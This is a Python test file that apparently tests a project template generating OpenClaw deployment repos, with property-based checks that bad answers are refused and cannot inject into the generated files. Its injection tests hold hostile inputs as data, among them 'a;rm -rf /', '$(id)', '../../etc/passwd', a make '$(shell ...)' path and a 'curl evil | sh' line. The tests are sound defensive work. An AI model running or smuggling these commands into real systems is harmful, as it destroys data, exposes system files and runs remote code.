"""Hostile and bad input, over the whole answer space.

- Every valid answer set (drawn from the data files through ops.model) renders,
  and the generated repo passes `make verify`'s static checks and linters.
- Random invalid values for every question are refused with a message naming
  the field and what is allowed, and no output directory is left behind.
- Free-text answers that try to break out of the file they land in (quotes,
  newlines, `{{`, `$(`, TOML/YAML syntax) are refused; accepted edge values do
  not change the meaning of any generated file (parsed and compared).
"""

from __future__ import annotations

import itertools
import json
import re
import string
import subprocess
import tomllib
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

from ops import checks, model as m, verify
from tests.conftest import ROOT, copy_template, git

QUESTIONS = [k for k in yaml.safe_load((ROOT / "copier.yml").read_text()) if not k.startswith("_")]
OC = m.openclaw()
PLATFORMS = m.platforms()
DOMAIN_PLATFORMS = sorted(p for p, f in PLATFORMS.items() if f.get("needs_domain"))
# Restated from copier.yml's help texts, independently of ops.model's regexes.
DNS_LABEL = re.compile(r"[a-z](?:[a-z0-9-]{0,61}[a-z0-9])")
SETTINGS = dict(deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
# Each example renders a repo (~0.3 s) and runs the linters (~1 s): report the
# failing example as drawn rather than spend minutes shrinking it.
NO_SHRINK = [Phase.explicit, Phase.reuse, Phase.generate]
_counter = itertools.count()


def fresh_dst(tmp_path_factory) -> Path:
    return tmp_path_factory.mktemp("hostile") / f"out{next(_counter)}"


def usable_sizes(platform: str) -> list[str]:
    return [s for s in PLATFORMS[platform]["sizes"]
            if not m.validate_field("vm_size", {"platform": platform, "vm_size": s})]


def memory_choices(platform: str, size: str) -> list[int]:
    low, high = m.memory_range(platform, size)
    floor = OC["memory"]["refuse_below_mb"]
    return [v for v in range(max(low, floor), high + 1) if v % 256 == 0]


versions = st.builds(
    lambda y, mo, d, suffix: f"{y}.{mo}.{d}{suffix}",
    st.integers(2000, 2099), st.integers(1, 12), st.integers(1, 31),
    st.sampled_from(["", "-1", "-12", "-beta.1", "-beta.20"]),
)
dns_labels = st.from_regex(r"\A[a-z][a-z0-9-]{0,61}[a-z0-9]\Z").filter(lambda s: "--" not in s)
hostnames = st.builds(lambda a, b: f"{a}.{b}", dns_labels.filter(lambda s: len(s) < 40),
                      st.sampled_from(["example.org", "claw.dev", "a-b.io", "x1.co.uk"]))


@st.composite
def valid_answers(draw) -> dict[str, Any]:
    platform = draw(st.sampled_from(sorted(PLATFORMS)))
    facts = PLATFORMS[platform]
    size = draw(st.sampled_from(usable_sizes(platform)))
    answers = {
        "app_name": draw(dns_labels),
        "platform": platform,
        "privacy": draw(st.sampled_from(m.PRIVACY_CHOICES)),
        "region": draw(st.sampled_from(sorted(facts["regions"]))),
        "openclaw_version": draw(versions),
        "gateway_port": draw(st.integers(1024, 65535)),
        "vm_size": size,
        "vm_memory_mb": draw(st.sampled_from(memory_choices(platform, size))),
        "volume_size_gb": draw(st.integers(facts["volume"]["min_gb"], facts["volume"]["max_gb"])),
        "model_providers": draw(st.lists(st.sampled_from(list(OC["model_providers"])), unique=True)),
        "channels": draw(st.lists(st.sampled_from(list(OC["channels"])), unique=True)),
        "binaries": draw(st.lists(st.sampled_from(list(m.binaries_catalog())), unique=True)),
        "tunnel": draw(st.sampled_from(list(OC["tunnels"]))),
        "uptime_minutes": str(draw(st.sampled_from(m.uptime_facts()["allowed_minutes"]))),
    }
    if "domain" in QUESTIONS and facts.get("needs_domain") and answers["privacy"] == "public":
        answers["domain"] = draw(hostnames)
    if "image_registry" in QUESTIONS and m.needs_image_registry(answers):
        answers["image_registry"] = f"ghcr.io/{draw(dns_labels)}/{answers['app_name']}-gateway"
    if len(answers["model_providers"]) > 1:
        answers["primary_model_provider"] = draw(st.sampled_from(answers["model_providers"]))
    # what copier does not ask (one region, memory fixed by the size, an unsized volume) is not given
    answers = {k: v for k, v in answers.items() if m.asked(k, answers)}
    assert m.errors(answers) == [], answers  # the strategy itself only draws valid sets
    return answers


# Asked as text and checked by ops.model (copier.yml: `type: str`), so recorded as text.
NUMBERS = ("gateway_port", "vm_memory_mb", "volume_size_gb")


def commit(repo: Path) -> Path:
    git("init", "-q", "-b", "main", cwd=repo)
    git("add", "-A", cwd=repo)
    git("commit", "-q", "-m", "generated", cwd=repo)
    return repo


@settings(max_examples=25, phases=NO_SHRINK, **SETTINGS)
@given(answers=valid_answers())
def test_every_valid_answer_set_renders_and_verifies(template_repo, tmp_path_factory, answers):
    repo = commit(copy_template(template_repo, fresh_dst(tmp_path_factory), answers))
    recorded = m.answers_from_file(repo / ".copier-answers.yml")
    multi = ("model_providers", "channels", "binaries")
    assert m.build(recorded).tunnel == answers.get("tunnel", "none")  # asked on private deploys only
    assert {k: recorded[k] for k in answers if k not in multi} == {
        k: str(v) if k in NUMBERS else v for k, v in answers.items() if k not in multi}
    # copier records multiselect answers in the order of the choices, not the user's
    for k in multi:
        assert sorted(recorded[k]) == sorted(answers[k])
    results = verify.run_all(repo, openclaw_cmd=None)  # static checks + linters, no OpenClaw step
    failed = [r for r in results if r.status == checks.FAIL]
    assert failed == [], (answers, failed)
    assert {r.check: r.status for r in results}["openclaw config validate"] == checks.SKIP


# ------------------------------------------------------------- refusals --

def not_in(allowed) -> st.SearchStrategy[str]:
    return st.text(max_size=20).filter(lambda s: s not in allowed)


def refused_with(template: Path, tmp_path_factory, data: dict[str, Any]) -> str:
    """copier's refusal of ``data`` (the template as a plain folder: template_tree) and no output."""
    dst = fresh_dst(tmp_path_factory)
    with pytest.raises(ValueError) as info:
        copy_template(template, dst, data)
    assert not dst.exists(), f"{dst} left behind for {data!r}"
    return str(info.value)


FLY = PLATFORMS["fly"]
FLY_MEM = FLY["sizes"][FLY["default_size"]]["memory_mb"]
INVALID: dict[str, tuple[st.SearchStrategy, list[str]]] = {
    # field: (invalid values, words the refusal must show)
    "app_name": (st.text(max_size=70).filter(lambda s: not DNS_LABEL.fullmatch(s) or "--" in s),
                 ["DNS label", "a-z, 0-9 and '-'"]),
    "platform": (not_in(PLATFORMS), list(PLATFORMS)),
    "privacy": (not_in(m.PRIVACY_CHOICES), list(m.PRIVACY_CHOICES)),
    "region": (not_in(FLY["regions"]), [FLY["default_region"]]),
    "openclaw_version": (st.one_of(st.text(max_size=20), versions.map(lambda v: v + "x"), st.just("latest"))
                         .filter(lambda s: not re.fullmatch(r"20\d\d\.(?:[1-9]|1[0-2])\.(?:[1-9]|[12]\d|3[01])"
                                                            r"(?:-(?:beta\.)?\d+)?", s)),
                         [OC["default_version"], "never 'latest'"]),
    "gateway_port": (st.one_of(st.integers(max_value=1023), st.integers(min_value=65536)), ["1024-65535"]),
    "vm_size": (not_in(FLY["sizes"]), [FLY["default_size"]]),
    "vm_memory_mb": (st.integers(-10**6, 10**6).filter(
        lambda v: v < OC["memory"]["refuse_below_mb"] or v > FLY_MEM[1] or v % 256), ["MB"]),
    "volume_size_gb": (st.one_of(st.integers(max_value=FLY["volume"]["min_gb"] - 1),
                                 st.integers(min_value=FLY["volume"]["max_gb"] + 1)),
                       [f"{FLY['volume']['min_gb']} to {FLY['volume']['max_gb']}"]),
    "model_providers": (st.lists(not_in(OC["model_providers"]), min_size=1, max_size=3), list(OC["model_providers"])),
    "channels": (st.lists(not_in(OC["channels"]), min_size=1, max_size=3), list(OC["channels"])),
    "binaries": (st.lists(not_in(m.binaries_catalog()), min_size=1, max_size=3), list(m.binaries_catalog())),
    "tunnel": (not_in(OC["tunnels"]), list(OC["tunnels"])),
    "primary_model_provider": (not_in(["anthropic", "openai"]), ["anthropic", "openai"]),
    "uptime_minutes": (st.integers(-10**4, 10**4).filter(lambda v: v not in m.uptime_facts()["allowed_minutes"]),
                       ["0 (off)", "15"]),
    "backup_schedule": (st.text(min_size=1, max_size=30).filter(lambda v: v.strip() != "off" and m.cron_problem(v)),
                        ["cron expression", "off"]),
    # empty means "no scheduled backups" (valid); anything else must be an age public key
    "backup_recipient": (st.text(min_size=1, max_size=70).filter(lambda v: bool(m.age_recipient_problem(v))),
                         ["age"]),
}
# Other answers a field's refusal needs (the primary is asked only among two or more).
CONTEXT = {"primary_model_provider": {"model_providers": ["anthropic", "openai"]}}


def test_every_question_has_an_invalid_value_strategy():
    # domain and image_registry are asked only for some platforms (their refusals: own tests)
    assert set(QUESTIONS) - {"domain", "image_registry"} == set(INVALID)


@pytest.mark.parametrize("field", sorted(INVALID))
def test_random_invalid_values_are_refused(template_tree, tmp_path_factory, field):
    values, words = INVALID[field]

    @settings(max_examples=12, **SETTINGS)
    @given(value=values)
    def check(value):
        message = refused_with(template_tree, tmp_path_factory, {**CONTEXT.get(field, {}), field: value})
        assert f"'{field}'" in message or f"{field}:" in message, message
        for word in words:
            assert word in message, (word, message)

    check()


@pytest.mark.skipif("domain" not in QUESTIONS or not DOMAIN_PLATFORMS, reason="no domain question yet")
def test_random_invalid_domains_are_refused(template_tree, tmp_path_factory):
    @settings(max_examples=12, **SETTINGS)
    @given(value=st.text(max_size=40).filter(lambda s: not re.fullmatch(r"[a-z0-9.-]+\.[a-z]{2,}", s)))
    def check(value):
        message = refused_with(template_tree, tmp_path_factory,
                               {"platform": DOMAIN_PLATFORMS[0], "privacy": "public", "domain": value})
        assert "domain" in message and "hostname" in message, message

    check()


WRONG_TYPES = [
    # numbers are asked as text and checked by ops.model, which names the field
    ("gateway_port", "abc"), ("vm_memory_mb", "2 GB"), ("volume_size_gb", "lots"),
    pytest.param("binaries", "gog", marks=pytest.mark.xfail(
        strict=True, reason="copier parses a multiselect before validating: its 'Not a YAML list' "
                            "error does not name the question (copier 9.19.1)")),
]


@pytest.mark.parametrize(("field", "value"), WRONG_TYPES)
def test_wrong_type_is_refused_naming_the_field(template_tree, tmp_path_factory, field, value):
    dst = fresh_dst(tmp_path_factory)
    with pytest.raises(Exception) as info:
        copy_template(template_tree, dst, {field: value})
    assert not dst.exists()
    assert field in str(info.value)
    assert re.search(r"whole (number|GB)", str(info.value)), str(info.value)


# ------------------------------------------------------------ injection --

PAYLOADS = [
    'claw"', "claw'", "claw\nx = 1", "claw\r\n[evil]", "claw\\", "{{ 7*7 }}", "{% raw %}", "${HOME}",
    "$(id)", "`id`", "a;rm -rf /", "a && b", "a|b", "a # c", "a: b", "- a", "[a]", "a = 1", "{a: 1}",
    "a\tb", "a\x00b", "\u202eclaw", "ｃｌａｗ", "claw\u200b", "../../etc/passwd", "a/b", "<script>", "a b",
    "&anchor", "*alias", "!!python/object:os.system", "%TAG", '"""', "'''", "0x10", "1e3",
    # valid DNS labels that a YAML 1.1 reader turns into null / booleans when printed unquoted
    "null", "true", "false", "yes", "no", "on", "off",
]
# Accepted names next to those words: every file must keep its meaning with them.
TYPE_SHIFTERS = ["nan", "inf", "null-claw", "no-x", "on1", "yes-2", "true0", "off-off"]
FREE_TEXT = ["app_name", "openclaw_version"] + (["domain"] if "domain" in QUESTIONS and DOMAIN_PLATFORMS else [])


def context_for(field: str) -> dict[str, Any]:
    if field == "domain":
        return {"platform": DOMAIN_PLATFORMS[0], "privacy": "public"}
    return {}


@pytest.mark.parametrize("field", FREE_TEXT)
def test_breakout_payloads_are_refused(template_tree, tmp_path_factory, field):
    suffixed = [f"2026.9.6{p}" for p in ('"', "\n", " #", "\nx=1")] + [
        f"ok.example.org{p}" for p in ("\n", '"', "/x", ":443")]
    for payload in PAYLOADS + suffixed:
        message = refused_with(template_tree, tmp_path_factory, {**context_for(field), field: payload})
        assert field in message, (payload, message)


def parse_all(repo: Path) -> dict[str, Any]:
    """Every TOML/JSON/YAML file of a generated repo, parsed; other text files as lines."""
    out: dict[str, Any] = {}
    for path in sorted(p for p in repo.rglob("*") if p.is_file() and ".git" not in p.parts):
        rel, text = str(path.relative_to(repo)), path.read_text(encoding="utf-8")
        if path.suffix == ".toml":
            out[rel] = tomllib.loads(text)
        elif path.suffix == ".json":
            out[rel] = json.loads(text)
        elif path.suffix in (".yml", ".yaml"):
            out[rel] = list(yaml.safe_load_all(text))
        else:
            out[rel] = text.splitlines()
    return out


def same_meaning(base: Any, other: Any, swaps: list[tuple[str, str]], where: str = "") -> None:
    """``other`` is ``base`` with each baseline value swapped for the drawn one, leaf by leaf:
    same keys, same types, same list lengths; strings equal after the swap."""
    if isinstance(base, dict):
        assert isinstance(other, dict) and list(other) == list(base), where
        for key in base:
            same_meaning(base[key], other[key], swaps, f"{where}.{key}")
    elif isinstance(base, list):
        assert isinstance(other, list) and len(other) == len(base), where
        for i, (b, o) in enumerate(zip(base, other)):
            same_meaning(b, o, swaps, f"{where}[{i}]")
    elif isinstance(base, str):
        for old, new in swaps:
            base = base.replace(old, new)
        assert other == base, where
    else:
        assert type(other) is type(base) and other == base, where


BASE = {"app_name": "zz-base-app", "openclaw_version": "2099.12.31-beta.99", "domain": "zz-base.example.org"}


@pytest.fixture(scope="module")
def baselines(template_tree, tmp_path_factory):
    cache: dict[str, Any] = {}

    def get(platform: str) -> Any:
        if platform not in cache:
            data = {"platform": platform, "privacy": "public", "app_name": BASE["app_name"],
                    "openclaw_version": BASE["openclaw_version"]}
            if "domain" in FREE_TEXT and PLATFORMS[platform].get("needs_domain"):
                data["domain"] = BASE["domain"]
            cache[platform] = (data, parse_all(copy_template(template_tree, fresh_dst(tmp_path_factory), data)))
        return cache[platform]

    return get


@settings(max_examples=15, phases=NO_SHRINK, **SETTINGS)
@given(platform=st.sampled_from(sorted(PLATFORMS)), app=dns_labels, version=versions, domain=hostnames)
def test_accepted_edge_values_do_not_change_meaning(template_tree, tmp_path_factory, baselines,
                                                   platform, app, version, domain):
    base_data, base_files = baselines(platform)
    data = {**base_data, "app_name": app, "openclaw_version": version}
    swaps = [(BASE["app_name"], app), (BASE["openclaw_version"], version)]
    if "domain" in base_data:
        data["domain"] = domain
        swaps.insert(0, (BASE["domain"], domain))
    files = parse_all(copy_template(template_tree, fresh_dst(tmp_path_factory), data))
    assert sorted(files) == sorted(base_files)
    for rel in base_files:
        same_meaning(base_files[rel], files[rel], swaps, rel)


@pytest.mark.parametrize("platform", sorted(PLATFORMS))
def test_type_shifting_app_names_keep_their_meaning(template_tree, tmp_path_factory, baselines, platform):
    """Rendered from template_tree like its baseline: only the answers differ between them."""
    base_data, base_files = baselines(platform)
    for app in TYPE_SHIFTERS:
        files = parse_all(copy_template(template_tree, fresh_dst(tmp_path_factory), {**base_data, "app_name": app}))
        for rel in base_files:
            same_meaning(base_files[rel], files[rel], [(BASE["app_name"], app)], f"{app}: {rel}")


def test_a_template_path_with_make_syntax_is_recorded_as_text_and_runs_nothing(tmp_path):
    """`TEMPLATE := <_src_path>` is expanded by make when it reads the Makefile, on
    any target: a template cloned into a directory named `$(shell ...)` ran that
    command on every `make` in the deploy repo."""
    from ops import template_source
    from tests.conftest import copy_template, snapshot_template

    src = snapshot_template(tmp_path / "tpl$(shell touch PWNED)#x")
    repo = copy_template(src, tmp_path / "deploy", {"platform": "fly", "privacy": "private"})
    show = tmp_path / "show.mk"  # read after the Makefile: prints the value make holds
    show.write_text("$(info TEMPLATE=$(TEMPLATE))\n")
    make = subprocess.run(["make", "-f", "Makefile", "-f", str(show), "-q", "nothing-here"], cwd=repo,
                          capture_output=True, text=True, timeout=60)
    assert not (repo / "PWNED").exists() and not any(tmp_path.rglob("PWNED"))
    assert f"TEMPLATE={src}\n" in make.stdout, make.stdout  # the value make holds is the path, as text
    assert template_source.recorded(repo) == str(src) and template_source.problem(repo) == ""


def test_a_template_path_with_a_newline_is_refused():
    from ops import template_source

    with pytest.raises(ValueError, match="control characters"):
        template_source.make_literal("/tmp/tpl\nall:\n\tcurl evil | sh")
